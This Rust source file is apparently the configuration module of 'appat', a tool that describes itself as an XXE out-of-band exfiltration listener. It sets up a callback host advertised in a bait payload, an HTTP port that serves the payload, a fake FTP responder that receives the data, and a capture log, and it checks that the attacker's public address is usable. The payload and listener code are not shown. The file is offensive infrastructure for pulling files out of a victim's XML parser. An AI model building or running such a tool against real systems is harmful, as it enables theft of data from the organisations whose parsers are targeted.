use clap::Parser;
use std::path::PathBuf;
use std::time::Duration;

use crate::error_handling::types::ConfigError;

/// Runtime parameters for the listener pair.
///
/// The only required argument is the externally reachable address the FTP
/// callback should advertise: a missing or wrong callback address makes the
/// whole capture pointless, since the victim parser would dial an
/// unreachable host. Everything else has defaults matching the documented
/// attack payload.
///
/// # Fields Overview
///
/// - `callback_host`: address substituted into the bait payload
/// - `http_port`: where the bait payload is served (default 8888)
/// - `ftp_port`: where the fake FTP responder listens (default 2121)
/// - `log_file`: append-only capture log path
/// - `read_timeout_secs`: per-connection FTP read timeout
#[derive(Parser, Debug, Clone)]
#[command(name = "appat")]
#[command(version)]
#[command(about = "XXE out-of-band exfiltration listener (HTTP bait + fake FTP)")]
pub struct Config {
    /// Externally reachable IP or hostname of this server, advertised in the
    /// FTP callback URL of the bait payload.
    pub callback_host: String,

    /// Port serving the bait payload over HTTP.
    ///
    /// # Command Line
    /// Use `--http-port <PORT>` to set this value from the CLI
    #[arg(long, default_value_t = 8888)]
    pub http_port: u16,

    /// Port the fake FTP responder listens on. Must match the port embedded
    /// in the bait payload, so changing it changes the payload too.
    ///
    /// # Command Line
    /// Use `--ftp-port <PORT>` to set this value from the CLI
    #[arg(long, default_value_t = 2121)]
    pub ftp_port: u16,

    /// Path of the append-only capture log file.
    ///
    /// # Command Line
    /// Use `--log-file <PATH>` to set this value from the CLI
    #[arg(long, default_value = "exfil-capture.log")]
    pub log_file: PathBuf,

    /// Seconds an FTP connection may stay silent before it is closed.
    ///
    /// # Command Line
    /// Use `--read-timeout-secs <SECONDS>` to set this value from the CLI
    #[arg(long, default_value_t = 10)]
    pub read_timeout_secs: u64,
}

impl Config {
    /// Parses configuration from the command line, exiting with clap's usage
    /// message when the required callback host is missing.
    pub fn from_args() -> Self {
        Config::parse()
    }

    /// Rejects callback hosts that would render an unusable payload.
    /// Never silently defaults to a guessable address.
    pub fn validate(&self) -> Result<(), ConfigError> {
        let host = self.callback_host.trim();
        if host.is_empty() {
            return Err(ConfigError::MissingCallbackHost(
                "need the public IP of this server in order to receive data".to_string(),
            ));
        }
        if host.contains(char::is_whitespace) || host.contains('/') {
            return Err(ConfigError::BadCallbackHost(format!(
                "'{}' is not a usable host or IP",
                host
            )));
        }
        Ok(())
    }

    pub fn read_timeout(&self) -> Duration {
        Duration::from_secs(self.read_timeout_secs)
    }
}
